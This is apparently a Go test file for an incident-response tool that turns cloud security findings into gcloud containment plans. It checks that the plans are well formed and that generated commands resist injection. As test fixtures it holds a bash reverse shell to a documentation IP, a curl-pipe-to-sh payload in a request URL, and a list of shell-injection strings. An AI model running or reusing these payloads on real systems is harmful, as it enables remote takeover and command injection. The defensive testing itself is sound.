package assess

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
	"mvdan.cc/sh/v3/syntax"
)

// planInputs are findings whose plans together hold every step there is.
func planInputs() map[string]Input {
	reverse := "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
	out := map[string]Input{
		"benign":  input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), deployed(complete(), "alice@example.com", 3)),
		"service": input(childShell("java", "bash", "-c", reverse), complete()),
		"silent":  input(childShell("java", "bash", "-c", reverse), silent(evidence.Timeout)),
	}
	high := childShell("tini", "sh", "-c", "./docker-entrypoint.sh")
	high.Severity = finding.High
	out["unknown"] = input(high, silent(evidence.Timeout))
	sus := complete()
	sus.Config.Ingress, sus.Config.AllUsers = "internal", false
	out["suspicious"] = input(childShell("java", "sh", "-c", "convert a.png b.jpg"), sus)

	same := complete()
	same.Config.Previous.Digest = same.Config.Containers[0].Digest
	same.Config.AllUsers, same.Config.AllAuthenticatedUsers, same.Config.InvokerIAMDisabled = false, true, true
	same.Config.DefaultServiceAccount = true
	same.Config.ExecutionEnvironment = "gen1"
	same.Config.Containers[0].PlaintextSecretEnv = []string{"STRIPE_KEY"}
	same.Config.Traffic = []evidence.Traffic{{Revision: "pay-00042-abc", Percent: 60}, {Revision: "pay-00041-xyz", Percent: 40}}
	same.Logs.Entries = append(same.Logs.Entries, evidence.LogEntry{
		Kind: evidence.LogRequest, Time: event().Add(-time.Second),
		Request: &evidence.Request{Method: "POST", URL: "https://pay.example.com/cgi?x=$(curl+http://203.0.113.9/x|sh)", Status: 200, RemoteIP: "198.51.100.4"},
	})
	out["same_image"] = input(childShell("java", "bash", "-c", reverse), same)

	job := childShell("python3", "bash", "-c", reverse)
	job.Workload.Kind, job.Workload.Revision, job.Workload.Execution, job.Workload.Name = finding.Job, "", "batch-7hx2k", "batch"
	out["job"] = input(job, complete())
	unnamed := childShell("python3", "bash", "-c", reverse)
	unnamed.Workload = job.Workload
	unnamed.Workload.Execution = ""
	out["job_unnamed"] = input(unnamed, silent(evidence.Denied))

	pool := childShell("python3", "bash", "-c", reverse)
	pool.Workload.Kind, pool.Workload.Name = finding.WorkerPool, "queue"
	out["worker_pool"] = input(pool, complete())

	gone := complete()
	gone.Config, gone.ConfigState = &evidence.Config{Gone: true}, evidence.Status{State: evidence.Empty}
	out["gone"] = input(childShell("java", "bash", "-c", reverse), gone)
	rev, exec := complete(), complete()
	rev.Config.RevisionGone, rev.Config.Revision = true, "pay-00043-new"
	exec.Config.RevisionGone = true
	out["revision_gone"] = input(childShell("java", "bash", "-c", reverse), rev)
	out["execution_gone"] = input(job, exec)
	return withCalls(out)
}

func TestPlanOrderAndContent(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	wants := map[string]struct{ has, lacks []string }{
		"benign": {
			has:   []string{"save_config", "save_logs", "contact_owner", "close_finding", "prevent_repeat"},
			lacks: []string{"limit_ingress", "disable_identity", "traffic_back", "keep_image", "delete_revision"},
		},
		"unknown": {
			has:   []string{"save_config", "save_logs", "contact_owner", "other_findings", "ask_again"},
			lacks: []string{"limit_ingress", "stop_instances", "close_finding"},
		},
		"service": {
			has: []string{"save_revision", "save_iam_policy", "keep_image", "traffic_back", "limit_ingress", "remove_allusers",
				"disable_identity", "disable_secret", "list_secret_versions", "rotate_secrets", "delete_revision", "restore_traffic", "close_finding"},
			lacks: []string{"stop_instances", "cancel_execution", "enable_invoker_check"},
		},
		"silent": {
			has:   []string{"save_config", "limit_ingress", "stop_instances"},
			lacks: []string{"traffic_back", "disable_identity", "identity_activity", "remove_allusers", "keep_image"},
		},
		"suspicious": {
			has:   []string{"traffic_back", "rebuild"},
			lacks: []string{"limit_ingress", "disable_identity", "delete_revision", "block_indicators"},
		},
		"same_image": {
			has: []string{"stop_instances", "remove_allauthenticatedusers", "enable_invoker_check", "own_identity", "second_generation",
				"binary_authorization", "secret_manager", "entry_requests"},
			lacks: []string{"traffic_back"},
		},
		"job":         {has: []string{"save_execution", "cancel_execution", "delete_job", "stop_schedule"}, lacks: []string{"limit_ingress", "traffic_back", "save_revision"}},
		"job_unnamed": {has: []string{"list_executions"}, lacks: []string{"cancel_execution", "save_execution"}},
		"worker_pool": {has: []string{"save_config", "save_revision", "stop_instances"}, lacks: []string{"limit_ingress", "save_iam_policy", "delete_revision"}},
		"gone": {
			has:   []string{"save_logs", "contact_owner", "who_deleted", "close_way_in", "close_finding"},
			lacks: []string{"save_config", "limit_ingress", "stop_instances", "delete_revision", "rebuild", "watch", "no_shell", "restore_traffic"},
		},
		"key":            {has: []string{"caller_activity", "disable_key"}, lacks: []string{"stop_caller"}},
		"account":        {has: []string{"caller_activity", "stop_caller"}, lacks: []string{"disable_key"}},
		"destroyed":      {has: []string{"deleted_objects"}},
		"revision_gone":  {has: []string{"save_config", "traffic_back"}, lacks: []string{"save_revision", "delete_revision"}},
		"execution_gone": {has: []string{"save_config", "list_executions"}, lacks: []string{"save_execution", "cancel_execution"}},
	}
	for name, in := range planInputs() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := p.Assess(in)
			var steps []string
			last := 0
			for _, st := range a.Plan {
				steps = append(steps, st.ID)
				phase := slices.Index(phases(), st.Phase)
				if phase < last {
					t.Errorf("step %s of phase %s comes after phase %s", st.ID, st.Phase, phases()[last])
				}
				last = phase
				if st.Title == "" || st.Why == "" || st.Effect == "" {
					t.Errorf("step %s lacks title, reason or effect: %+v", st.ID, st)
				}
				if st.Command != "" && st.Permission == "" {
					t.Errorf("step %s has a command but names no permission", st.ID)
				}
				if st.Command != "" && st.Phase == PhaseContain && st.Undo == "" && !strings.HasPrefix(st.ID, "list_") {
					t.Errorf("containment step %s has no undo", st.ID)
				}
				checkCommand(t, st.ID, st.Command)
				if strings.HasPrefix(st.Undo, "gcloud ") {
					checkCommand(t, st.ID+" undo", st.Undo)
				}
			}
			for _, id := range wants[name].has {
				if !slices.Contains(steps, id) {
					t.Errorf("%s: no step %s in %v", a.Verdict, id, steps)
				}
			}
			for _, id := range wants[name].lacks {
				if slices.Contains(steps, id) {
					t.Errorf("%s: step %s in %v", a.Verdict, id, steps)
				}
			}
			for _, st := range a.Plan {
				t.Logf("%-9s %-20s %s\n\t\t%s\n\t\tundo: %s", st.Phase, st.ID, st.Title, st.Command, st.Undo)
			}
		})
	}
}

// checkCommand parses a command and looks for blanks.
func checkCommand(t *testing.T, id, cmd string) {
	t.Helper()
	if cmd == "" {
		return
	}
	if _, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(cmd), ""); err != nil {
		t.Errorf("step %s: %v in %s", id, err, cmd)
	}
	for _, blank := range []string{"=''", `=""`, "= ", "[PROJECT", "None", "<nil>", "PROJECT_ID", "  ", "$"} {
		if strings.Contains(cmd, blank) {
			t.Errorf("step %s has a blank %q: %s", id, blank, cmd)
		}
	}
}

// TestPlanHostileNames puts shell text into every name a command is made of.
func TestPlanHostileNames(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	for _, evil := range []string{
		"x; touch /tmp/owned", "$(touch /tmp/owned)", "`touch /tmp/owned`", "x' ; touch /tmp/owned ; '", `x" ; touch /tmp/owned ; "`,
		"--impersonate-service-account=evil@example.com", "x\ntouch /tmp/owned", "x && touch /tmp/owned", "x > /tmp/owned", "x\x00y", "-rf", "x|sh", "\u202etouch",
	} {
		for name, in := range planInputs() {
			if in.Finding.Workload.IsZero() {
				continue
			}
			f, e := *in.Finding, *in.Evidence
			f.Workload.Name, f.Workload.Project, f.Workload.Location = evil, evil, evil
			f.Workload.Revision, f.Workload.Execution = evil, evil
			f.ResourceName, f.CanonicalName = evil, evil
			if e.Config != nil {
				c := *e.Config
				c.ServiceAccount, c.Revision = evil, evil
				c.Traffic = []evidence.Traffic{{Revision: evil, Percent: 50}, {Revision: evil, Percent: 50}}
				if c.Previous != nil {
					prev := *c.Previous
					prev.Name = evil
					c.Previous = &prev
				}
				c.Containers = slices.Clone(c.Containers)
				for i := range c.Containers {
					c.Containers[i].Image = "europe-docker.pkg.dev/" + evil + "@sha256:" + hash("1")
					c.Containers[i].SecretEnv = []evidence.SecretRef{{Secret: evil, Version: "1"}, {Secret: evil, Version: evil}}
				}
				e.Config = &c
			}
			in.Finding, in.Evidence = &f, &e
			for _, st := range p.Assess(in).Plan {
				onlyGcloud(t, name+" "+st.ID, evil, st.Command)
				if strings.HasPrefix(st.Undo, "gcloud") {
					onlyGcloud(t, name+" "+st.ID+" undo", evil, st.Undo)
				}
			}
		}
	}
}

// onlyGcloud fails unless every simple command is gcloud, with literal words
// only, no flag made by a name, and no redirection but into a file beside it.
func onlyGcloud(t *testing.T, id, evil, cmd string) {
	t.Helper()
	if cmd == "" {
		return
	}
	f, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(cmd), "")
	if err != nil {
		t.Errorf("%s with %q does not parse: %v", id, evil, err)
		return
	}
	syntax.Walk(f, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst, *syntax.ParamExp, *syntax.ArithmExp, *syntax.ProcSubst:
			t.Errorf("%s with %q expands something: %s", id, evil, cmd)
		case *syntax.CallExpr:
			if len(n.Args) == 0 || n.Args[0].Lit() != "gcloud" {
				t.Errorf("%s with %q runs something else: %s", id, evil, cmd)
			}
			for _, a := range n.Args {
				if strings.HasPrefix(a.Lit(), "--impersonate") || a.Lit() == "-rf" {
					t.Errorf("%s with %q makes a flag: %s", id, evil, cmd)
				}
			}
		case *syntax.Redirect:
			if w := n.Word.Lit(); strings.ContainsAny(w, "/~") || w == "" {
				t.Errorf("%s with %q writes to %q", id, evil, w)
			}
		}
		return true
	})
}

// TestPlanFlagsAgainstGcloud compares every command of every plan with the
// real gcloud: with its own table of commands, flags and values, and where an
// installation lacks that, with the help of each command, which takes about a
// second for each.
func TestPlanFlagsAgainstGcloud(t *testing.T) {
	if testing.Short() {
		t.Skip("asks the real gcloud, skipped with -short")
	}
	gcloudPath, err := exec.LookPath("gcloud")
	if err != nil {
		t.Skip("gcloud is not on PATH: the flags of the plan's commands were not compared with it")
	}
	t.Parallel()
	p := mustDefault(t)
	used := map[string]map[string][]string{} // command → flag → values
	note := func(cmd string) {
		for part := range strings.SplitSeq(cmd, " && ") {
			name, flags := splitCommand(t, part)
			if used[name] == nil {
				used[name] = map[string][]string{}
			}
			for f, v := range flags {
				used[name][f] = append(used[name][f], v)
			}
		}
	}
	for _, in := range planInputs() {
		for _, st := range p.Assess(in).Plan {
			if st.Command != "" {
				note(st.Command)
			}
			if strings.HasPrefix(st.Undo, "gcloud ") {
				note(st.Undo)
			}
		}
	}
	if len(used) < 25 {
		t.Errorf("only %d kinds of commands were compared", len(used))
	}
	root := cliTree(t, gcloudPath)
	if root == nil {
		t.Log("this gcloud has no table of its commands, asking for help")
	}
	var wg sync.WaitGroup
	slots := make(chan struct{}, 2)
	for name, flags := range used {
		if root != nil {
			root.check(t, name, flags)
			continue
		}
		wg.Go(func() {
			slots <- struct{}{}
			defer func() { <-slots }()
			checkHelp(t, gcloudPath, name, flags)
		})
	}
	wg.Wait()
}

// cliNode is one command in gcloud's table. A flag's kind is "value", "bool",
// "dynamic" or the list of values it takes.
type cliNode struct {
	Commands map[string]*cliNode `json:"commands"`
	Flags    map[string]any      `json:"flags"`
}

// cliTree reads the table that gcloud's shell completion uses; nil without one.
func cliTree(t *testing.T, gcloudPath string) *cliNode {
	t.Helper()
	target, err := filepath.EvalSymlinks(gcloudPath)
	if err != nil {
		return nil
	}
	data, err := os.ReadFile(filepath.Join(filepath.Dir(filepath.Dir(target)), "data", "cli", "gcloud_completions.py"))
	if err != nil {
		return nil
	}
	_, table, ok := bytes.Cut(data, []byte("STATIC_COMPLETION_CLI_TREE ="))
	if !ok {
		return nil
	}
	var root cliNode
	if err := json.NewDecoder(bytes.NewReader(table)).Decode(&root); err != nil {
		t.Logf("gcloud's table of commands: %v", err)
		return nil
	}
	return &root
}

// check compares one command, its flags and their values.
func (root *cliNode) check(t *testing.T, name string, used map[string][]string) {
	t.Helper()
	node := root
	for _, word := range strings.Fields(name) {
		if node = node.Commands[word]; node == nil {
			t.Errorf("gcloud has no command %q", name)
			return
		}
	}
	if len(node.Commands) > 0 {
		t.Errorf("gcloud %s is a group, not a command", name)
	}
	for flag, values := range used {
		kind, ok := node.Flags[flag]
		if !ok {
			kind, ok = root.Flags[flag]
		}
		if !ok && strings.HasPrefix(flag, "--no-") {
			kind, ok = node.Flags["--"+strings.TrimPrefix(flag, "--no-")]
		}
		if !ok {
			t.Errorf("gcloud %s has no flag %s", name, flag)
			continue
		}
		choices, _ := kind.([]any)
		for _, value := range values {
			switch {
			case kind == "bool" && value != "":
				t.Errorf("gcloud %s %s takes no value", name, flag)
			case kind != "bool" && value == "":
				t.Errorf("gcloud %s %s needs a value", name, flag)
			case len(choices) > 0 && !slices.Contains(choices, any(value)):
				t.Errorf("gcloud %s %s=%s is not one of %v", name, flag, value, choices)
			}
		}
	}
}

// splitCommand returns "run services describe" and the flags used with it.
func splitCommand(t *testing.T, cmd string) (name string, flags map[string]string) {
	t.Helper()
	f, err := syntax.NewParser().Parse(strings.NewReader(cmd), "")
	if err != nil {
		t.Fatalf("%s: %v", cmd, err)
	}
	var words []string
	syntax.Walk(f, func(n syntax.Node) bool {
		if call, ok := n.(*syntax.CallExpr); ok {
			for _, w := range call.Args {
				words = append(words, literal(w))
			}
		}
		return true
	})
	lengths := map[string]int{"run services": 3, "run jobs": 3, "run revisions": 3, "beta run": 4, "logging read": 2, "scc findings": 3,
		"projects get-iam-policy": 2, "iam service-accounts": 3, "secrets versions": 3, "artifacts docker": 4, "storage ls": 2}
	n := lengths[strings.Join(words[1:3], " ")]
	if n == 0 {
		t.Fatalf("unknown kind of command: %s", cmd)
	}
	for _, deeper := range []string{"run jobs executions", "iam service-accounts keys", "beta run worker-pools revisions"} {
		if strings.HasPrefix(strings.Join(words[1:], " "), deeper+" ") {
			n++
		}
	}
	flags = map[string]string{}
	for _, w := range words[n+1:] {
		if strings.HasPrefix(w, "--") {
			flag, value, _ := strings.Cut(w, "=")
			flags[flag] = value
		}
	}
	return strings.Join(words[1:n+1], " "), flags
}

// literal is a word without its quotes.
func literal(w *syntax.Word) string {
	var text strings.Builder
	for _, part := range w.Parts {
		switch part := part.(type) {
		case *syntax.Lit:
			text.WriteString(part.Value)
		case *syntax.SglQuoted:
			text.WriteString(part.Value)
		}
	}
	return text.String()
}

func checkHelp(t *testing.T, gcloudPath, name string, used map[string][]string) {
	args := append(strings.Fields(name), "--help")
	cmd := exec.CommandContext(t.Context(), gcloudPath, args...)
	cmd.Env = append(cmd.Environ(), "CLOUDSDK_CORE_DISABLE_PROMPTS=1", "PAGER=cat", "TERM=dumb")
	out, err := cmd.Output()
	if err != nil {
		t.Errorf("gcloud has no command %q: %v", name, err)
		return
	}
	help := regexp.MustCompile(`\x1b\[[0-9;]*m|.\x08`).ReplaceAllString(string(out), "")
	for flag := range used {
		bare := strings.TrimPrefix(strings.TrimPrefix(flag, "--"), "no-")
		if !regexp.MustCompile(`--(\[no-\])?` + regexp.QuoteMeta(bare) + `\b`).MatchString(help) {
			t.Errorf("gcloud %s has no flag %s", name, flag)
		}
	}
}

// phases are the phases of a plan in order.
func phases() []string {
	return []string{PhaseEvidence, PhaseScope, PhaseContain, PhaseEradicate, PhaseRecover, PhaseHarden}
}
